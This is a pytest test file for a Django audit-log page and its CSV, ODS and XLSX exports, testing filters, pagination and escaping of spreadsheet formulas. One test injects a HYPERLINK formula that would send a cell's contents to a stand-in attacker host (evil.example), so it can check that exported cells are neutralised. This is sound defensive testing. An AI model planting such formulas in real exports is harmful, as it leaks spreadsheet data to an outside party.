"""The audit log (journal): who did what, when, for which organisation. Only
the secretariat (and superusers) read it and download it as CSV; both take the
same filters. Who gets which page is in tests/test_urls.py; here, what they get.
"""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from ateliers.verbs import AteliersVerb
from audit.models import AuditEvent
from commission.models import ValidationRound
from commission.verbs import CommissionVerb
from cucs_portal.exports import spreadsheet_safe
from tests import factories as f

pytestmark = pytest.mark.django_db


def at(day: int, hour: int = 12) -> datetime.datetime:
    """A moment of March 2007, Paris time."""
    return timezone.make_aware(datetime.datetime(2007, 3, day, hour))


def record(*, actor, target, action, when, comment="", **fields) -> AuditEvent:
    event = AuditEvent.record(
        actor=actor, target=target, action=action, comment=comment, **fields
    )
    # created_at is set by the database clock: move it to the day the test needs.
    AuditEvent.objects.filter(pk=event.pk).update(created_at=when)
    event.refresh_from_db()
    return event


@pytest.fixture
def journal(db):
    """Five entries over a week of March 2007, by two organisations."""
    opac = f.OrganisationFactory(name="OPAC de la Loire", short_name="OPAC")
    lh = f.OrganisationFactory(name="Loire Habitat", short_name="LH")
    camille = f.UserFactory(first_name="Camille", last_name="Durand", organisation=opac)
    dominique = f.UserFactory(
        first_name="Dominique", last_name="Martin", organisation=lh
    )
    proposals = [
        f.ProposalFactory(title="Des gardiens formés à la médiation"),
        f.ProposalFactory(title="Un diagnostic en marchant"),
    ]
    events = {
        "submit": record(
            actor=camille, target=proposals[0], action=AteliersVerb.SUBMIT, when=at(1)
        ),
        "validate": record(
            actor=dominique,
            target=proposals[0],
            action=AteliersVerb.VALIDATE,
            when=at(3),
            comment="Adoptée sans réserve.",
        ),
        "submit again": record(
            actor=camille, target=proposals[1], action=AteliersVerb.SUBMIT, when=at(5)
        ),
        "reject": record(
            actor=dominique,
            target=proposals[1],
            action=AteliersVerb.REJECT,
            when=at(7, 0),
            comment="Hors du champ du CUCS.",
        ),
        "late": record(
            actor=dominique,
            target=proposals[1],
            action=AteliersVerb.REQUEST_CHANGES,
            when=at(7, 23),
            comment="Relire le calendrier.",
        ),
    }
    return {"opac": opac, "lh": lh, "events": events, "proposals": proposals}


@pytest.fixture
def secretariat(client, db):
    client.force_login(f.UserFactory(secretariat=True))
    return client


def listed(response) -> list[AuditEvent]:
    return list(response.context["page_obj"].object_list)


def names(journal, events) -> set[str]:
    by_pk = {event.pk: name for name, event in journal["events"].items()}
    return {by_pk[event.pk] for event in events}


def csv_rows(response) -> tuple[str, list[list[str]]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return text, list(
        csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";")
    )


class TestFilters:
    @pytest.mark.parametrize(
        ("query", "expected"),
        [
            ({}, {"submit", "validate", "submit again", "reject", "late"}),
            ({"action": "submit"}, {"submit", "submit again"}),
            ({"action": "reject"}, {"reject"}),
            ({"since": "2007-03-03"}, {"validate", "submit again", "reject", "late"}),
            ({"until": "2007-03-03"}, {"submit", "validate"}),
            (
                {"since": "2007-03-03", "until": "2007-03-05"},
                {"validate", "submit again"},
            ),
            # A day runs from midnight to midnight, Paris time.
            ({"since": "2007-03-07", "until": "2007-03-07"}, {"reject", "late"}),
            ({"q": "médiation"}, {"submit", "validate"}),
            ({"q": "CALENDRIER"}, {"late"}),
            ({"q": "durand"}, {"submit", "submit again"}),
            ({"q": "Dominique"}, {"validate", "reject", "late"}),
            ({"q": "introuvable"}, set()),
            ({"action": "submit", "q": "marchant"}, {"submit again"}),
        ],
        # Sorted: a set's order changes from one process to the next (xdist).
        ids=lambda value: str(sorted(value) if isinstance(value, set) else value),
    )
    def test_the_log_narrows_to_what_is_asked(
        self, secretariat, journal, query, expected
    ):
        """By action, by dates (both included), by a word of the object, the
        comment or the person's name; combined, all must match."""
        response = secretariat.get(reverse("audit:log"), query)

        assert response.status_code == 200
        assert names(journal, listed(response)) == expected

    def test_by_organisation_of_the_person_who_acted(self, secretariat, journal):
        response = secretariat.get(
            reverse("audit:log"), {"organisation": journal["lh"].pk}
        )

        assert names(journal, listed(response)) == {"validate", "reject", "late"}

    def test_the_newest_entries_come_first(self, secretariat, journal):
        response = secretariat.get(reverse("audit:log"))

        assert [e.created_at for e in listed(response)] == sorted(
            (e.created_at for e in listed(response)), reverse=True
        )

    def test_an_organisation_keeps_its_entries_after_a_person_moves(
        self, secretariat, journal
    ):
        """The organisation is the one the person acted for at the time."""
        camille = journal["events"]["submit"].actor
        camille.organisation = journal["lh"]
        camille.save()

        response = secretariat.get(
            reverse("audit:log"), {"organisation": journal["opac"].pk}
        )

        assert names(journal, listed(response)) == {"submit", "submit again"}

    @pytest.mark.parametrize(
        ("query", "field"),
        [
            ({"since": "2007-03-07", "until": "2007-03-01"}, "until"),
            ({"since": "7 mars"}, "since"),
            ({"until": "2007-02-30"}, "until"),
            ({"action": "delete_everything"}, "action"),
            ({"organisation": "999999"}, "organisation"),
            ({"organisation": "OPAC"}, "organisation"),
        ],
    )
    def test_a_filter_that_makes_no_sense_is_an_error_next_to_its_field(
        self, secretariat, journal, query, field
    ):
        """Dates the wrong way round, a date that is not one, an unknown
        action or organisation: the page (never a 500) with the error under the
        field concerned, and the log unfiltered, saying so."""
        response = secretariat.get(reverse("audit:log"), query)

        assert response.status_code == 200
        form = response.context["filter_form"]
        assert set(form.errors) == {field}
        html = response.content.decode()
        assert f'id="error_1_id_{field}"' in html
        assert escape(form.errors[field][0]) in html
        assert len(listed(response)) == len(journal["events"])

    @pytest.mark.parametrize(
        "query",
        [
            {"since": "2007-03-07", "until": "2007-03-01"},
            {"since": "pas une date"},
        ],
    )
    def test_the_export_refuses_invalid_filters(self, secretariat, journal, query):
        """Invalid filters are refused with a plain message (400) rather than
        quietly exporting the whole log."""
        response = secretariat.get(reverse("audit:export"), query)

        assert response.status_code == 400
        assert "filtre" in response.content.decode().lower()

    @pytest.mark.parametrize("query", [{"page": "abc"}, {"page": "9999"}])
    def test_the_export_ignores_the_page(self, secretariat, journal, query):
        """The CSV holds every matching entry, whatever page the list was on."""
        response = secretariat.get(reverse("audit:export"), query)

        assert response.status_code == 200
        _text, rows = csv_rows(response)
        assert len(rows) == 1 + len(journal["events"])


class TestPagination:
    def test_fifty_entries_a_page_and_the_filters_kept(self, secretariat, journal):
        """Page 2 has the rest; the filters stay in the links between pages and
        in the CSV link."""
        actor = journal["events"]["submit"].actor
        for day in range(60):
            record(
                actor=actor,
                target=journal["proposals"][0],
                action=AteliersVerb.SUBMIT,
                when=at(10) + datetime.timedelta(minutes=day),
            )

        first = secretariat.get(reverse("audit:log"), {"action": "submit"})
        second = secretariat.get(reverse("audit:log"), {"action": "submit", "page": 2})

        assert first.context["page_obj"].paginator.count == 62
        assert (len(listed(first)), len(listed(second))) == (50, 12)
        assert not set(listed(first)) & set(listed(second))
        assert first.context["query_string"] == "action=submit"
        html = first.content.decode()
        assert "?action=submit&amp;page=2" in html or "page=2&amp;action=submit" in html
        assert f"{reverse('audit:export')}?action=submit" in html
        assert f"{reverse('audit:export_xlsx')}?action=submit" in html
        assert f"{reverse('audit:export_ods')}?action=submit" in html

    def test_a_page_beyond_the_last_shows_the_last(self, secretariat, journal):
        response = secretariat.get(reverse("audit:log"), {"page": 99})

        assert response.status_code == 200
        assert response.context["page_obj"].number == 1


class TestCsvExport:
    def test_a_spreadsheet_reads_it_in_french_with_a_header(self, secretariat, journal):
        """UTF-8 with a BOM (so the accents survive Excel), ';' between cells
        (the French list separator), a header row then one row per entry."""
        response = secretariat.get(reverse("audit:export"))

        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith(
            'attachment; filename="journal-cucs-'
        )
        text, rows = csv_rows(response)
        assert text.startswith("\ufeff")
        assert text.splitlines()[0].count(";") == 7
        assert [len(row) for row in rows] == [8] * 6
        validate = journal["events"]["validate"]
        assert [
            "03/03/2007 12:00",
            "Dominique Martin",
            "LH",
            str(validate.get_action_display()),
            str(journal["proposals"][0]),
            "",
            "",
            "Adoptée sans réserve.",
        ] in rows

    def test_the_ods_has_the_rows_of_the_csv_its_dates_as_dates(
        self, secretariat, journal
    ):
        """The same rows in the ODS (and the XLSX, the same table), the date of
        each entry a date cell."""
        import datetime
        import io

        from odfdo import Document

        _text, rows = csv_rows(secretariat.get(reverse("audit:export")))
        response = secretariat.get(reverse("audit:export_ods"))

        assert response["Content-Disposition"].endswith('.ods"')
        table = Document(io.BytesIO(response.content)).body.get_table(0)
        cells = [list(row.traverse()) for row in table.traverse()]
        assert len(cells) == len(rows)
        assert [c.value for c in cells[1][1:5]] == rows[1][1:5]
        assert cells[1][0].type == "date"
        assert isinstance(cells[1][0].value, datetime.datetime)
        xlsx = secretariat.get(reverse("audit:export_xlsx"))
        assert xlsx.status_code == 200
        assert xlsx.content.startswith(b"PK")

    def test_it_has_the_rows_of_the_filters(self, secretariat, journal):
        """The same filters as the page: one row per matching entry."""
        response = secretariat.get(
            reverse("audit:export"), {"action": "submit", "since": "2007-03-02"}
        )

        _text, rows = csv_rows(response)
        assert [row[4] for row in rows[1:]] == [str(journal["proposals"][1])]

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(
        self, secretariat, journal, start
    ):
        """Whatever someone typed (a comment, a title, their name), a cell
        starting with = + - @ (or a tab, a carriage return) is prefixed with
        an apostrophe, so that the spreadsheet shows it as text."""
        typed = f'{start}HYPERLINK("http://evil.example/?"&A1;"clic")'
        person = f.UserFactory(first_name=typed, last_name="Nom")
        titled = ValidationRound.objects.create(title=typed, opened_by=person)
        record(
            actor=person,
            target=titled,
            action=CommissionVerb.ROUND_OPEN,
            when=at(20),
            comment=typed,
        )

        response = secretariat.get(reverse("audit:export"), {"since": "2007-03-20"})

        _text, rows = csv_rows(response)
        (row,) = rows[1:]
        assert row[4] == f"'{typed}"
        assert row[7] == f"'{typed}"
        if start.strip():  # a full name is stripped of leading blanks
            assert row[1] == f"'{typed} Nom"

    @pytest.mark.parametrize(
        ("value", "safe"),
        [
            ("=1+1", "'=1+1"),
            ("-10 %", "'-10 %"),
            ("Rive-de-Gier", "Rive-de-Gier"),
            ("a=b", "a=b"),
            ("", ""),
            (None, ""),
            (42, "42"),
        ],
    )
    def test_spreadsheet_safe(self, value, safe):
        """Only the first character matters; harmless text is unchanged."""
        assert spreadsheet_safe(value) == safe
